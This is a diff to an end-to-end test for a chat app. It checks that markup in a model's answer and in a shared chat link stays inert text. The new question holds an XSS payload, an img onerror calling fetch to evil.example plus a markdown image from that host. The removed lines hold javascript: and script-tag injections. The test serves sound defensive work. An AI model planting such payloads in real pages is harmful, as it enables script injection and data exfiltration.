@@ -1,7 +1,8 @@
 import { afterAll, describe, expect, test } from "vitest";
+import { hostileTexts } from "../src/server/features/shares/testing/hostile-texts.ts";
 import { type Script, startFakeModel } from "../src/server/testing/fake-model.ts";
 import { ask, lastTurn, openTopic, readText, waitTold } from "./steps/chat.ts";
-import { openHouse, quickly } from "./steps/house.ts";
+import { eventually, openHouse, quickly } from "./steps/house.ts";
 import { expectAsStored } from "./steps/stored.ts";
 
 /** Three of these at most lie on the table: a paragraph that names all four names one that does not. */
@@ -58,20 +59,37 @@ describe("a configured model", () => {
     await expectAsStored(person);
   });
 
-  test("that writes markup into its answer: it is shown as letters, and nothing is fetched or run", async () => {
-    const markup = '<img src="https://example.com/a.png" onerror="document.title=1"> ![画](https://example.com/b.png) [点这里](javascript:alert(1))';
-    script = { tokens: [`## 说给你听。\n\n${markup}\n\n<script>document.title = 1</script>`] };
+  test("that writes forty kinds of markup into its answer: in the chat and in what is shared of it they are letters, nothing is fetched or run", async () => {
+    script = { tokens: [`## 说给你听。\n\n`, ...hostileTexts.map((text) => `${text}\n\n`)] };
     const person = await house.visit();
-    const { page } = person;
+    const stranger = await house.visit({ device: "phone" });
     const abroad: string[] = [];
-    page.on("request", (request) => {
-      if (new URL(request.url()).origin !== new URL(person.url).origin) abroad.push(request.url());
-    });
+    for (const { page, url } of [person, stranger]) {
+      page.on("request", (request) => {
+        const { protocol, origin } = new URL(request.url());
+        if (/^https?:$/.test(protocol) && origin !== new URL(url).origin) abroad.push(request.url());
+      });
+      page.on("dialog", (dialog) => {
+        abroad.push(`dialog ${dialog.message()}`);
+        void dialog.dismiss();
+      });
+    }
+    const { page, words } = person;
     await openTopic(person, "tarot");
-    await ask(person, "我该不该换工作？");
+    await ask(person, "我该不该换工作？<img src=x onerror=\"fetch('https://evil.example/me')\"> ![我](https://evil.example/me.png)");
     await lastTurn(page).getByText("说给你听。").waitFor();
-    expect(await lastTurn(page).locator(".reading :is(img, script, a[href^=javascript])").count()).toBe(0);
+    const active =
+      ":is(img, script, iframe, object, embed, link, style, meta, base, form, video, audio, details, math, picture, template, noscript, a[href^=javascript], a[href^=data], a[href^=vbscript])";
+    expect(await lastTurn(page).locator(`:is(.reading, .me) ${active}`).count()).toBe(0);
+
+    await page.locator(".turn.is-last .acts").getByRole("button", { name: words.sharing.share, exact: true }).click();
+    await page.locator(".sh-preview img").waitFor();
+    await page.getByRole("button", { name: words.sharing.copyLink, exact: true }).click();
+    await eventually(() => readText(page.locator(".sh-link"))).toContain("/chat/");
+    await stranger.page.goto(stranger.url + new URL(await readText(page.locator(".sh-link"))).pathname);
+    await stranger.page.getByText("evil.example").first().waitFor();
+    expect(await stranger.page.locator(`main ${active}`).count()).toBe(0);
     expect(abroad).toEqual([]);
-    expect(await page.title()).toContain("换工作");
+    expect([await page.title(), await stranger.page.title()].join()).not.toMatch(/^1|,1$/);
   });
 });
